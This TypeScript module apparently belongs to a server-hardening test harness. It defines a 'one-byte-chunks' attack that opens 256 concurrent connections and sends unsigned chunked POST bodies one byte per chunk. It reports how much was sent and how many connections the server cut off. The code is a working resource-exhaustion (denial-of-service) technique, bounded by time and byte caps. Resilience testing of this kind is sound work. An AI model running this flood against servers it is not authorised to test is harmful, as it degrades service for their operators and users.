import type { Attack } from './attack.ts';
import { EVENTS, headOf, unsignedHeaders } from './requests.ts';
import { delay, open, writeAll } from './sockets.ts';

const CONNECTIONS = 256;
const BODY_BYTES = 250_000;
/** So many chunks go into one write. */
const PIECE = 10_000;
const WITHIN_MS = 6_000;
const MOST_BYTES = 200_000_000;

export const oneByteChunks: Attack = {
  name: 'one-byte-chunks',
  about: `${CONNECTIONS} connections with unsigned bodies of ${BODY_BYTES} bytes, in chunks of one byte`,
  run: async (target) => {
    const until = performance.now() + WITHIN_MS;
    let sent = 0;
    let cutOff = 0;
    const piece = '1\r\nx\r\n'.repeat(PIECE);
    function* body() {
      yield headOf('POST', EVENTS, { ...unsignedHeaders(), 'transfer-encoding': 'chunked' });
      for (let bytes = 0; bytes < BODY_BYTES && performance.now() < until; bytes += PIECE) {
        sent += PIECE;
        yield piece;
      }
    }
    const send = async (): Promise<void> => {
      while (performance.now() < until && sent < MOST_BYTES) {
        const socket = await open(target);
        socket.resume();
        const gone = new Promise((resolve) => socket.once('close', resolve));
        await writeAll(socket, body());
        if (!socket.destroyed) await Promise.race([gone, delay(Math.max(0, until - performance.now()))]);
        if (socket.destroyed) cutOff += 1;
        socket.destroy();
        await delay(20);
      }
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, send));
    return `${(sent / 1e6).toFixed(1)} MB of bodies sent, ${cutOff} connections cut off`;
  },
};
